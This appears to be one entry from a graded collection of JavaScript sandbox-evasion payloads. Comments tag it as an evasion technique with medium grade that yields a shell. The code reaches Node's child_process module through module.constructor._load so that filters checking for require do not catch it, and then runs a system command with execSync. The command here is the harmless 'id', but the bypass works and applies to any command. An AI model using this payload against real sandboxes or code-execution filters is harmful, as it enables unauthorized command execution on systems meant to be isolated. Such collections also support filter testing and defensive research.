// evasion: module.constructor._load
// grade: medium; does: shell
module.constructor._load("child_process").execSync("id");
